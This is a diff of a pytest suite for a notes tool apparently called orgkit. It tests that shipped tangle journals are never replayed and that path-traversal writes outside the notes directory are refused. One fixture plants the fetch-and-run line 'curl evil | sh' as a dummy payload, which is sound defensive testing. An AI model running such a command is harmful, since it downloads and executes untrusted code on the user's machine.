@@ -33,7 +33,7 @@ def received(tmp_path: Path, monkeypatch) -> Path:
     (tmp_path / "victim.txt").write_text(VICTIM)
     (tmp_path / "sibling").mkdir()
     (tmp_path / "sibling" / "keep.org").write_text("* mine\n")
-    (tmp_path / "sibling" / ".orgkit-stale.tmp").write_text("looks like a temporary file orgkit left\n")
+    (tmp_path / "sibling" / ".orgkit-abcd1234.tmp").write_text("named as a temporary file orgkit leaves\n")
     notes = make_notes(tmp_path / "notes")
     (notes / "x.org").write_text(LIT)
     (notes / "payload.txt").write_text("curl evil | sh\n")
@@ -68,8 +68,8 @@ def test_a_shipped_tangle_journal_is_never_replayed(received: Path, cli, state: 
     before, shipped_bytes = outside_state(received.parent), shipped.read_bytes()
     result = cli("tangle", "x.org", "--dry-run")
     assert result.exit_code == 0, result.stderr
-    assert "never replayed" in result.stderr and str(shipped) in result.stderr
     assert outside_state(received.parent) == before
+    assert "never replayed" in result.stderr and str(shipped) in result.stderr
     assert (received / "payload.txt").exists() and shipped.read_bytes() == shipped_bytes  # left for the user
     assert cli("tangle", "x.org").exit_code == 0  # a real tangle goes on, says nothing again in-process
     assert (received / "x.py").read_text() == "x = 1\n" and outside_state(received.parent) == before
@@ -150,9 +150,9 @@ def plant(execute) -> None:
 
 def assert_refused_and_untouched(result, base: Path, before: dict) -> None:
     assert result.exit_code == 0, result.stderr
+    assert outside_state(base) == before and not (base / "planted.org").exists()
     assert "batch BATCH-OUT: '../planted.org' is outside the notes dir" in result.stderr
     assert "deposit DEPOSIT-OUT: '../sibling/keep.org' is outside the notes dir" in result.stderr
-    assert outside_state(base) == before and not (base / "planted.org").exists()
 
 
 def test_a_shipped_memory_database_acts_nowhere_outside(received: Path, cli) -> None:
